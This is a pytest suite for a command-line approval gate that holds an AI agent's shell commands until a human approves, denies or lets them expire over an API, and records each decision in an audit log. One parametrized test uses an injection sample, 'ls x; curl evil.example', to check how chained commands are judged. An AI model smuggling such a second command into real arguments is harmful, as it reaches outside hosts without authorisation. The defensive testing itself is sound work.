"""``python -m cs_agent check`` as a real process: it blocks on the long-poll while a human
decides over the API, and its exit status and output say what the agent may do."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from typing import Any

import pytest

from approvals.models import ApprovalRequest, Status
from approvals.tasks import expire_due
from contextsvc.core.models import AuditEntry
from devenv.system import REPO_DIR
from tests.support.api import decide_over_http, issue_token
from tests.support.processes import wait_until

pytestmark = [pytest.mark.cluster, pytest.mark.django_db(transaction=True)]


def start_client(
    web_server: str,
    token: str,
    *extra: str,
    what: tuple[str, ...] = ("shell", "pip install pandas"),
    env: dict[str, str] | None = None,
) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [
            sys.executable,
            "-m",
            "cs_agent",
            "check",
            "--url",
            web_server,
            "--token",
            token,
            "--agent-type",
            "data-agent",
            "--context-id",
            "ctx-abc123",
            *extra,
            *what,
        ],
        cwd=REPO_DIR,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
    )


def pending_request() -> ApprovalRequest:
    found = wait_until(
        lambda: ApprovalRequest.objects.filter(status=Status.PENDING).first(),
        timeout=30,
        message="the client's request to be queued",
    )
    assert isinstance(found, ApprovalRequest)
    return found


def finish(process: subprocess.Popen[str]) -> tuple[int, dict[str, Any], str]:
    out, err = process.communicate(timeout=60)
    return process.returncode, json.loads(out), err


def test_client_blocks_until_approved(web_server: str) -> None:
    agent_token, approver_token = (
        issue_token("agent-1", ["agent"]),
        issue_token("alice", ["approver"]),
    )
    client = start_client(web_server, agent_token)
    request = pending_request()
    time.sleep(0.5)
    assert client.poll() is None  # still blocked on the long-poll

    decide_over_http(web_server, approver_token, request.pk, {"decision": "approve"})
    code, verdict, err = finish(client)

    assert code == 0
    assert verdict == {
        "allowed": True,
        "status": "approved",
        "reason": None,
        "request_id": str(request.pk),
        "evaluation": verdict["evaluation"],
        "operation": {"kind": "shell", "command": "pip install pandas"},
        "execution": {
            "isolation": "namespaces",
            "runtimeClass": None,
            "timeLimitSeconds": None,
            "memoryLimitMb": None,
            "workspace": "/workspace/ctx-abc123",
            "network": "pod",
            # No sources.json and no network allow rule: no run of it reaches any host.
            "egress": {"hosts": [], "blocked": [], "ports": [80, 443]},
            "effects": {
                "read": [],
                "write": ["/workspace/ctx-abc123/**"],
                "delete": [],
                "network": ["*"],
                "programs": ["pip"],
                "hidden": [],
            },
        },
        "check_id": None,
        "edited": False,
        "asked": {"kind": "shell", "command": "pip install pandas"},
    }
    assert f"waiting for a human: request {request.pk}" in err
    assert list(
        AuditEntry.objects.filter(target=str(request.pk))
        .order_by("id")
        .values_list("actor", "action")
    ) == [
        ("api:agent-1", "approval.request"),
        ("api:alice", "approval.approve"),
    ]


def test_the_cli_names_the_instance_and_allocation_its_environment_gives(
    web_server: str,
) -> None:
    """Issue 32: ``python -m cs_agent`` built its client from flags only, so the request
    named the host as its instance and no allocation (no risk notes of its topology)."""
    token = issue_token("agent-1", ["agent"])
    env = {**os.environ, "CS_AGENT_INSTANCE": "pod-7", "CS_ALLOCATION": "pool-a"}
    client = start_client(web_server, token, env=env)
    request = pending_request()
    client.kill()
    client.communicate(timeout=30)

    assert (request.agent_instance, request.allocation) == ("pod-7", "pool-a")
    assert request.risk_notes == [
        'names allocation "pool-a", which is not an active allocation of this service'
    ]


def test_client_is_denied_with_the_reason(web_server: str) -> None:
    agent_token, approver_token = (
        issue_token("agent-1", ["agent"]),
        issue_token("alice", ["approver"]),
    )
    client = start_client(web_server, agent_token)
    request = pending_request()

    decide_over_http(
        web_server, approver_token, request.pk, {"decision": "deny", "reason": "use the mirror"}
    )
    code, verdict, _ = finish(client)

    assert code == 1
    assert (verdict["allowed"], verdict["status"], verdict["reason"]) == (
        False,
        "denied",
        "use the mirror",
    )
    assert list(
        AuditEntry.objects.filter(target=str(request.pk))
        .order_by("id")
        .values_list("action", flat=True)
    ) == [
        "approval.request",
        "approval.deny",
    ]


def test_client_is_denied_when_nobody_decides_in_time(web_server: str) -> None:
    client = start_client(web_server, issue_token("agent-1", ["agent"]), "--deadline-seconds", "2")
    request = pending_request()

    code, verdict, _ = finish(client)

    assert code == 1
    assert (verdict["allowed"], verdict["status"], verdict["reason"]) == (
        False,
        "expired",
        "deadline passed",
    )
    # The long-poll only read it as expired; beat's task writes the expiry.
    request.refresh_from_db()
    assert request.status == Status.PENDING
    assert expire_due() == 1
    request.refresh_from_db()
    assert request.status == Status.EXPIRED
    assert list(
        AuditEntry.objects.filter(target=str(request.pk))
        .order_by("id")
        .values_list("actor", "action")
    ) == [
        ("api:agent-1", "approval.request"),
        ("system:approvals", "approval.expire"),
    ]


@pytest.mark.parametrize(
    ("what", "code", "judged"),
    [
        # One argument is a command line: the shell would run both parts.
        (("shell", "ls x; curl evil.example"), 1, "ls x; curl evil.example"),
        # Several are one command's words: ls gets one odd file name, nothing else runs.
        (("shell", "ls", "x; curl evil.example"), 0, "ls 'x; curl evil.example'"),
    ],
)
def test_the_command_line_judges_what_would_run(
    web_server: str, what: tuple[str, ...], code: int, judged: str
) -> None:
    client = start_client(web_server, issue_token("agent-1", ["agent"]), what=what)

    returncode, verdict, _ = finish(client)

    assert (returncode, verdict["allowed"]) == (code, code == 0)
    [entry] = AuditEntry.objects.filter(action__in=["approval.allow", "approval.refuse"])
    assert entry.payload["operation"] == judged
